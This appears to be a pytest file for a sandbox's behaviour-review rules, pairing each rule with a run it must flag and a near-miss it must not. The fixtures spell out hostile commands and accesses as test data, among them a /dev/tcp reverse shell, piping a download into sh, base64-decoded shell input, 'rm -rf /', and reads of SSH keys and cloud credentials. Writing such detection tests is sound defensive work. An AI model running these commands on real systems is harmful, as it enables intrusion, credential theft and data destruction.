"""For every shipped rule: what it must find, and what is close to it and must not be found."""

import random
from collections.abc import Mapping
from typing import Any

import pytest

from sandbox.record import FileEvent, NetworkEvent
from sandbox.result import Usage
from sandbox.review.canaries import Canaries
from sandbox.review.model import Change, LeftFile, Run
from tests.unit.review.records import (
    RULES,
    asked,
    denied,
    found,
    missing,
    process,
    refused,
    run,
    signalled,
    started,
    told,
    touched,
    tried,
    variable,
)

CANARIES = Canaries.new()
NOISE = random.Random(7).randbytes(4_096)  # noqa: S311 - bytes without order, the same each time
TEXT = b"Words that a person wrote, one after the other, and then some more of them.\n" * 60
LONG = "x = 1;" * 200


def left(change: Change, *paths: str) -> list[LeftFile]:
    return [LeftFile(path=path, change=change, size_bytes=1) for path in paths]


def many(count: int, ending: str = "txt") -> list[str]:
    return [f"file{number}.{ending}" for number in range(count)]


def encrypted(content: bytes) -> Run:
    changes = [*left("removed", *many(3)), *left("created", *many(3, "txt.locked"))]
    return run(left=changes, files=dict.fromkeys(many(3, "txt.locked"), content))


def crowd(count: int, **more: Any) -> Run:
    return run(processes=[process(number, started_at=0.5, **more) for number in range(count)])


def waited(cpu_seconds: float) -> Run:
    return run(usage=Usage(wall_seconds=20, cpu_seconds=cpu_seconds))


def planted(path: str) -> FileEvent:
    return touched(f"/box/{path}")


def connected(socket: str) -> NetworkEvent:
    return tried("connect", socket, family="unix", outcome="missing")


CASES: Mapping[str, tuple[Run, Run]] = {
    "leaks-planted-secret": (
        run(stdout=CANARIES.environment["GITHUB_TOKEN"]),
        run(stdout=Canaries.new().environment["GITHUB_TOKEN"]),
    ),
    "reads-planted-secret": (run(planted(".aws/credentials")), run(planted(".aws/config"))),
    "reads-planted-env-file": (run(planted(".env")), run(planted(".env.example"))),
    "reads-planted-netrc": (run(planted(".netrc")), run(touched("/box/.netrc", "look"))),
    "reads-planted-variable": (run(variable("OPENAI_API_KEY")), run(variable("OPENAI_ORG"))),
    "reads-credentials": (run(touched("/root/.ssh/id_rsa")), run(touched("/root/.ssh/config"))),
    "tries-credentials": (run(missing("/box/.kube/config")), run(missing("/box/.kubeconfig"))),
    "looks-for-credentials": (
        run(missing("/box/.aws/credentials", "look")),
        run(missing("/box/aws/credentials", "look")),
    ),
    "reads-routine-settings": (run(missing("/box/.netrc")), run(missing("/box/.gitconfig"))),
    "searches-stores-of-others": (
        run(missing("/box/.mozilla/firefox", "list")),
        run(missing("/box/mozilla/firefox", "list")),
    ),
    "reads-histories": (
        run(missing("/box/.bash_history")),
        run(started("bash", process=1), missing("/box/.bash_history")),
    ),
    "reads-secret-variables": (run(variable("STRIPE_API_KEY")), run(variable("KEYBOARD"))),
    "copies-all-variables": (run(variable("*")), run(variable("HOME"))),
    "reads-own-environment-file": (
        run(touched("/proc/2/environ"), processes=[process(1)]),
        run(touched("/proc/self/stat")),
    ),
    "changes-the-system": (
        run(refused("/usr/lib/python3/os.py")),
        run(refused("/usr/lib/python3/__pycache__/os.cpython-311.pyc")),
    ),
    "writes-outside-its-folder": (run(refused("/srv/data")), run(touched("/tmp/data", "create"))),
    "opens-devices": (run(missing("/dev/kvm")), run(touched("/dev/urandom"))),
    "persists-for-everybody": (
        run(touched("/box/.ssh/authorized_keys", "create")),
        run(touched("/etc/passwd")),
    ),
    "persists-in-the-home": (
        run(touched("/box/tmp1", "rename", to="/box/.bashrc")),
        run(touched("/box/.git/hooks/pre-push.sample", "create")),
    ),
    "schedules-programs": (run(started("crontab", "-")), run(started("cat", "crontab"))),
    "scrambles-files": (encrypted(NOISE), encrypted(b"\x1f\x8b" + NOISE)),
    "removes-many-inputs": (
        run(left=left("removed", *many(10))),
        run(left=left("removed", *many(9))),
    ),
    "rewrites-many-inputs": (
        run(left=left("changed", *many(20))),
        run(left=left("created", *many(20))),
    ),
    "destroys-a-machine": (
        run(started("rm", "-rf", "/")),
        run(started("rm", "-rf", "/box/build")),
    ),
    "starts-a-shell": (
        run(told("import", "os"), started("/bin/sh", "-c", "ls")),
        run(started("bash", "script.sh", process=1)),
    ),
    "starts-a-shell-from-a-shell": (
        run(
            started("bash", "a.sh", process=1),
            started("bash", "b.sh"),
            processes=[process(1, None), process(2)],
        ),
        run(told("import", "os"), started("bash", "b.sh")),
    ),
    "starts-inline-code": (
        run(started("python3", "-Ic", "print(1)")),
        run(started("python3", "-c", "from multiprocessing.spawn import spawn_main")),
    ),
    "starts-long-inline-code": (
        run(started("python3", "-c", LONG)),
        run(started("python3", "tool.py", LONG)),
    ),
    "decodes-in-a-shell": (
        run(started("sh", "-c", "echo aWQ= | base64 -d | sh")),
        run(started("sh", "-c", "base64 -d | sha256sum")),
    ),
    "runs-what-it-downloads": (
        run(started("sh", "-c", "curl https://a.example/i | sh", process=1)),
        run(started("sh", "-c", "curl https://a.example/i | shasum")),
    ),
    "opens-a-shell-to-others": (
        run(started("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1")),
        run(started("bash", "-c", "cat /dev/tty")),
    ),
    "starts-network-programs": (
        run(started("curl", "https://a.example")),
        run(
            started("git", "fetch", process=1),
            started("ssh", "git@a.example"),
            processes=[process(1, None), process(2)],
        ),
    ),
    "installs-packages": (
        run(started("python3", "-m", "pip", "install", "x")),
        run(started("pip", "install", "x", process=1), started("pip", "list")),
    ),
    "asks-for-privileges": (run(started("sudo", "id")), run(started("chmod", "0755", "a"))),
    "runs-from-memory": (
        run(started("x", path="/proc/self/fd/3")),
        run(started("x", path="/box/fd/3")),
    ),
    "runs-from-temporary-files": (
        run(started("x", path="/tmp/build/x")),
        run(started("x", path="/box/tmp/x")),
    ),
    "mines-coins": (
        run(started("x", "-o", "stratum+tcp://pool.example:1")),
        run(asked("pool.ntp.org")),
    ),
    "asks-who-and-where-it-is": (run(started("whoami")), run(started("uname"))),
    "starts-many-processes": (crowd(200, ended_at=0.5), crowd(199, ended_at=0.5)),
    "forks-without-end": (crowd(100), crowd(99)),
    "asks-metadata-service": (
        run(tried("connect", "::ffff:169.254.169.254", 80)),
        run(tried("connect", "169.254.169.253", 80)),
    ),
    "listens-for-others": (
        run(tried("bind", "::", 8000), tried("listen", family="inet6")),
        run(tried("bind", "127.0.0.1", 8000), tried("listen", "@x", family="unix")),
    ),
    "listens-on-loopback": (run(tried("listen", "127.0.0.1", 80)), run(tried("bind", "::1", 0))),
    "reaches-private-networks": (
        run(tried("connect", "192.168.1.1", 445)),
        run(tried("connect", "192.168.1.1", 53)),
    ),
    "connects-outside": (run(tried("connect", "1.1.1.1", 443)), run(tried("connect", "::", 443))),
    "asks-for-names": (run(asked("a.example")), run(asked("localhost."))),
    "names-carry-data": (
        run(asked(f"{'a' * 50}.a.example")),
        run(asked(f"{'a' * 49}.{'b' * 49}.a.example")),
    ),
    "talks-to-drop-services": (
        run(asked("x1.Webhook.site")),
        run(asked("webhook.site.a.example")),
    ),
    "asks-for-its-own-address": (run(asked("ifconfig.me")), run(asked("ifconfig.example"))),
    "reaches-local-services": (
        run(tried("connect", "127.0.0.1", 6379)),
        run(tried("connect", "127.0.0.1", 53)),
    ),
    "reaches-control-sockets": (
        run(connected("/var/run/docker.sock")),
        run(connected("/var/run/nscd/socket")),
    ),
    "reaches-agents": (run(connected("/tmp/ssh-a/agent.7")), run(connected("/tmp/agent.7"))),
    "reaches-the-desktop": (run(connected("@/tmp/.X11-unix/X0")), run(connected("/tmp/x"))),
    "attacks-the-kernel": (run(denied("bpf")), run(denied("clone3", "ENOSYS"))),
    "asks-for-unusual-calls": (run(denied("ptrace")), run(denied("sched_setaffinity"))),
    "opens-unusual-sockets": (
        run(tried("bind", family="AF_38")),
        run(tried("bind", family="AF_16")),
    ),
    "routine-refusals": (run(denied("clone3", "ENOSYS")), run(denied("mount"))),
    "other-missing-calls": (run(denied("new_call", "ENOSYS")), run(denied("keyctl", "ENOSYS"))),
    "other-refusals": (run(denied("fcntl")), run(denied("syncfs"))),
    "signals-init-or-everybody": (run(signalled("everybody")), run(signalled("group 5"))),
    "signals-others": (
        run(signalled("process 1", process=2), processes=[process(1, None), process(2)]),
        run(signalled("process 2"), processes=[process(1, None), process(2)]),
    ),
    "looks-into-processes": (
        run(touched("/proc/9/environ"), processes=[process(1)]),
        run(touched("/proc/2/maps"), processes=[process(1)]),
    ),
    "checks-for-a-box": (run(missing("/.dockerenv", "look")), run(missing("/box/.dockerenv"))),
    "decodes-and-runs": (run(told("decode", "import os")), run(told("compile", "<string>"))),
    "loads-marshalled-code": (
        run(told("decode", "marshal")),
        run(told("decode", "import marshal")),
    ),
    "unpickles-programs": (
        run(told("unpickle", "posix.system")),
        run(told("unpickle", "subprocess.CalledProcessError")),
    ),
    "unpickles": (run(told("unpickle", "collections.OrderedDict")), run(told("import", "pickle"))),
    "loads-libraries": (run(told("library", "libc.so.6")), run(told("import", "ctypes"))),
    "hits-limits": (
        run(status="memory_limit"),
        run(status="exit", limits_hit=("wall",)),
    ),
    "runs-until-stopped": (run(status="timeout"), run(status="cpu_limit")),
    "waits-most-of-its-time": (waited(0.1), waited(1)),
    "record-is-not-whole": (run(record={"not_kept": 1}), run(record={"not_kept": 0})),
}


def test_every_shipped_rule_has_a_case() -> None:
    assert {rule.name for rule in RULES.rules} == set(CASES)


@pytest.mark.parametrize("name", CASES)
def test_a_rule_finds_what_it_is_for(name: str) -> None:
    must, _ = CASES[name]

    assert name in found(must, canaries=CANARIES)


@pytest.mark.parametrize("name", CASES)
def test_a_rule_does_not_find_what_is_close_to_it(name: str) -> None:
    _, must_not = CASES[name]

    assert name not in found(must_not, canaries=CANARIES)


def test_ten_readable_files_in_place_of_others_are_not_scrambled() -> None:
    assert "scrambles-files" not in found(encrypted(TEXT))


def test_a_limit_of_processes_is_a_fork_bomb_whatever_became_of_it() -> None:
    assert "forks-without-end" in found(run(limits_hit=("processes",)))


def test_a_variable_is_worse_where_the_network_was_tried() -> None:
    alone = run(variable("GITHUB_TOKEN"))
    out = run(variable("GITHUB_TOKEN"), asked("a.example"))

    worst = [found(each, canaries=CANARIES)["reads-planted-variable"] for each in (alone, out)]
    assert [each.severity for each in worst] == ["info", "low"]
